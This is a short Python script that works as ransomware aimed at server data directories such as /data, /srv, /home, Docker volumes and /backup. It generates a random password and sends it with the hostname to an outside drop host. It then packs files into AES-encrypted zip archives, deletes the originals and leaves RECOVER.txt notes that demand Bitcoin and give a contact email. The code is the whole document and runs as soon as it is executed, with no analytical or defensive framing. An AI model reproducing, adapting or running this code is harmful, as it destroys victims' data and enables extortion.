#!/usr/bin/env python3
import os
import random
import string
import urllib.request
import urllib.parse
import pyzipper

DROP = "https://paste-relay.xyz/api/drop"
VOLS = ["/data", "/srv", "/mnt", "/media", "/var/lib/docker/volumes", "/backup", "/home"]
MAX_BATCH = 200 * 1024 * 1024
NOTE = ("Your files were packed into password-protected archives (AES-256).\n"
        "Originals are gone. Send 0.08 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n"
        "and write to zipback@cock.li with your hostname to get the password.\n")


def pw(n=40):
    a = string.ascii_letters + string.digits + "!@#%^*"
    return "".join(random.SystemRandom().choice(a) for _ in range(n))


def ship(p):
    body = urllib.parse.urlencode({"h": os.uname().nodename, "p": p}).encode()
    try:
        urllib.request.urlopen(DROP, data=body, timeout=10)
    except Exception:
        pass


def pack_dir(dirpath, files, password, idx):
    arc = os.path.join(dirpath, "archive_%04d.zip" % idx)
    done = []
    with pyzipper.AESZipFile(arc, "w", compression=pyzipper.ZIP_LZMA,
                             encryption=pyzipper.WZ_AES) as z:
        z.setpassword(password.encode())
        total = 0
        for fn in files:
            fp = os.path.join(dirpath, fn)
            try:
                z.write(fp, arcname=fn)
                done.append(fp)
                total += os.path.getsize(fp)
            except OSError:
                continue
            if total > MAX_BATCH:
                break
    for fp in done:
        try:
            os.remove(fp)
        except OSError:
            pass
    return len(done)


def main():
    password = pw()
    ship(password)
    for v in VOLS:
        if not os.path.isdir(v):
            continue
        for dirpath, dirnames, filenames in os.walk(v):
            files = [f for f in filenames
                     if not f.endswith(".zip") and f != "RECOVER.txt"
                     and os.path.isfile(os.path.join(dirpath, f))]
            idx = 0
            while files:
                n = pack_dir(dirpath, files, password, idx)
                if n == 0:
                    break
                files = files[n:]
                idx += 1
            if idx:
                with open(os.path.join(dirpath, "RECOVER.txt"), "w") as f:
                    f.write(NOTE)
    password = None


main()
